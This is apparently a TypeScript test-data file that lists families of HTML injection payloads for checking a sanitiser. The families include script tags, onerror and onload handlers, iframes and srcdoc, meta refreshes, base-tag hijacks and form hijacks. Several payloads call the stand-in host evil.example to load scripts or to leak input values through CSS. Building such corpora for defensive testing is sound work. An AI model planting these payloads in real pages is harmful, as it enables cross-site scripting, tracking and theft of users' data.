/** Elements of HTML that run, load, or change the page around them. */
import { act, dialog, elsewhere, type Family, fill } from './family.ts'

export const elementFamilies: readonly Family[] = [
  {
    name: 'script elements',
    tries: 'to run a script that stands in an element of that name, however the tag is written',
    texts: [
      ...fill([
        '<script>@</script>',
        '<SCRIPT>@</SCRIPT>',
        '<ScRiPt type=module>@</sCrIpT >',
        '<script\n>@</script\n>',
      ]),
      ...fill(['<script/x>@</script>', '<script x=">">@</script>', '<script>@', '<<script>@//<</script>']),
      ...fill(
        ['<scr<script>ipt>@</scr</script>ipt>', '<script src=@/x.js></script>', '<script src=//evil.example>'],
        [elsewhere],
      ),
      `<script>${dialog}<!--</script>`,
      `<script nonce="" integrity="">${dialog}</script>`,
      `<script type="application/ld+json">{}</script><script>${act}</script>`,
      `<script type=importmap>{"imports":{"x":"${elsewhere}/x.js"}}</script>`,
      `<noscript></noscript><script async>${act}</script>`,
    ],
  },
  {
    name: 'pictures and media that fail',
    tries: 'to run a handler as soon as a source cannot be loaded',
    texts: fill(
      [
        '<img src=x onerror=@>',
        '<img src=x onerror="@">',
        "<img src='x' onerror='@'/>",
        '<IMG SRC=x ONERROR=@>',
        '<img/src/onerror=@>',
        '<img src=x:x onerror\n=\n@>',
        '<image src=x onerror=@>',
        '<video src=x onerror=@></video>',
        '<video><source onerror=@></video>',
        '<audio src=x onerror=@>',
        '<picture><source srcset=x><img src=x onerror=@></picture>',
        '<input type=image src=x onerror=@>',
        '<object data=x onerror=@></object>',
        '<link rel=stylesheet href=x onerror=@>',
      ],
      [act, dialog],
    ),
  },
  {
    name: 'pictures of others',
    tries: 'to tell somebody else who reads which page and when',
    texts: fill(
      [
        '<img src=@/pixel.png>',
        '<img src="//evil.example/p?@">',
        '<img srcset="@/a.png 1x, @/b.png 2x">',
        '<picture><source srcset="@/x"><img></picture>',
        '<video poster=@/p.png></video>',
        '<audio src=@/a.mp3 autoplay></audio>',
        '<track src=@/t.vtt>',
        '<body background=@/b.png>',
        '<table background=@/b.png><td>x</table>',
        '<input type=image src=@/i.png>',
        '<svg><image href=@/i.png /></svg>',
      ],
      [elsewhere],
    ),
  },
  {
    name: 'frames',
    tries: 'to open another page within the page',
    texts: [
      ...fill(['<iframe src="@"></iframe>', '<frame src=@>', '<frameset><frame src=@></frameset>'], [elsewhere]),
      ...fill(['<iframe src=javascript:@></iframe>', '<iframe onload=@></iframe>', '<iframe/onload=@//>']),
      ...fill(['<iframe name="@"></iframe>', '<portal src=https://evil.example onload=@></portal>']),
      '<fencedframe></fencedframe>',
      `<iframe src="data:text/html,<script>parent.${dialog}</script>"></iframe>`,
    ],
  },
  {
    name: 'pages in an attribute',
    tries: 'to bring a whole document along in srcdoc',
    texts: [
      ...fill(
        ['<iframe srcdoc="<script>parent.@</script>"></iframe>', "<iframe srcdoc='<img src=x onerror=parent.@>'>"],
        [act],
      ),
      ...fill(
        [
          '<iframe srcdoc=&lt;script&gt;parent.@&lt;/script&gt;>',
          '<IFRAME SRCDOC="&#x3c;script>parent.@&#x3c;/script>">',
        ],
        [act],
      ),
      `"srcdoc="<script>parent.${act}</script>`,
    ],
  },
  {
    name: 'objects and plug-ins',
    tries: 'to load a program or a document as an object',
    texts: [
      ...fill(
        ['<object data=@/x.swf></object>', '<embed src=@/x.swf>', '<applet code=@/X.class></applet>'],
        [elsewhere],
      ),
      ...fill(['<object data="data:text/html,<script>parent.@</script>"></object>', '<embed src=javascript:@>']),
      ...fill(
        ['<object><param name=movie value=@/m.swf></object>', '<object codebase=@ classid=x></object>'],
        [elsewhere],
      ),
    ],
  },
  {
    name: 'refreshes',
    tries: 'to lead the reader away by a meta element',
    texts: fill(
      [
        '<meta http-equiv=refresh content="0;url=@">',
        '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=@/x">',
        '<meta http-equiv="refresh" content="0;javascript:window.__pwned=1">',
        '<meta content="0;@" http-equiv=refresh>',
        '"><meta http-equiv=refresh content=0;@>',
      ],
      [elsewhere],
    ),
  },
  {
    name: 'other meta elements',
    tries: 'to set cookies, a policy, an encoding or a referrer for the page',
    texts: [
      '<meta http-equiv="Set-Cookie" content="pwned=1">',
      '<meta http-equiv="Content-Security-Policy" content="default-src *">',
      '<meta charset="utf-7">',
      '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
      '<meta name=referrer content=unsafe-url>',
      '<meta property="og:image" content="https://evil.example/i.png">',
    ],
  },
  {
    name: 'base addresses',
    tries: 'to make every relative link and script of the page one of another host',
    texts: fill(
      [
        '<base href="@/">',
        '<BASE HREF=//evil.example/>',
        '"><base href=@>',
        '<base target=_blank href=@>',
        '</head><base href="@">',
      ],
      [elsewhere],
    ),
  },
  {
    name: 'forms',
    tries: 'to take what a reader types to somebody else, or to run on a press of a button',
    texts: [
      ...fill(
        [
          '<form action=@><input name=q><button>x</button></form>',
          '</form><form action=@>',
          '<input form=search formaction=@ type=submit>',
        ],
        [elsewhere],
      ),
      ...fill([
        '<form action="javascript:@"><input type=submit>',
        '<button formaction="javascript:@">x</button>',
        '<isindex action=javascript:@ type=image>',
      ]),
      ...fill([
        '<form><input autofocus onfocus=@></form>',
        '<textarea autofocus onfocus=@>',
        '<select autofocus onfocus=@><option>',
      ]),
      '<input type=password name=password autocomplete=current-password>',
      '<keygen autofocus>',
    ],
  },
  {
    name: 'style sheets',
    tries: 'to restyle or hide the page, or to ask elsewhere from within a style',
    texts: [
      `<style>@import "${elsewhere}/x.css";</style>`,
      `<style>*{background:url(${elsewhere}/b)}</style>`,
      `<style>body{display:none}`,
      `<link rel=stylesheet href=${elsewhere}/x.css>`,
      `<link rel="preload prefetch dns-prefetch preconnect" href=${elsewhere}>`,
      `<link rel=icon href=${elsewhere}/i.ico>`,
      '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
      '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
      '</style><style>*{all:unset}',
      '<xss style="behavior:url(https://evil.example/x.htc)">',
    ],
  },
  {
    name: 'templates and shadows',
    tries: 'to carry elements where a filter does not look',
    texts: [
      ...fill([
        '<template><script>@</script></template>',
        '<template shadowrootmode=open><img src=x onerror=@></template>',
      ]),
      ...fill([
        '<div><template shadowrootmode=open><script>@</script></template></div>',
        '<slot onslotchange=@></slot>',
      ]),
      ...fill(['<custom-element onclick=@>x</custom-element>', '<x is=y onfocus=@ tabindex=0 autofocus>x</x>']),
    ],
  },
  {
    name: 'elements that take all that follows as text',
    tries: 'to swallow the page, or to hide a tag from one parser that another one sees',
    texts: [
      ...fill([
        '</textarea><script>@</script>',
        '</title><script>@</script>',
        '</style><script>@</script>',
        '</script><script>@</script>',
      ]),
      ...fill([
        '</noscript><script>@</script>',
        '</template><script>@</script>',
        '</xmp><script>@</script>',
        '</iframe><script>@</script>',
      ]),
      ...fill([
        '<textarea>@',
        '<title>@',
        '<plaintext>@',
        '<xmp>@',
        '<listing>@',
        '<noembed>@',
        '<noframes>@',
        '<select>@',
        '<frameset>@',
      ]),
    ],
  },
  {
    name: 'ends of what stands around',
    tries: 'to close the elements of the page and to go on outside them',
    texts: [
      ...fill([
        '</p></article></main><script>@</script>',
        '</body></html><script>@</script>',
        '</head><body onload=@>',
        '</a><a href=javascript:@>x',
      ]),
      ...fill([
        '</li></ul><img src=x onerror=@>',
        '</td></tr></table><img src=x onerror=@>',
        '</h1><h1 onclick=@>',
        '</details><details open ontoggle=@>',
      ]),
      '</span></div></section>',
      '<table><tr><td>',
      '<!-- </p>',
      '</nonsense>',
    ],
  },
]
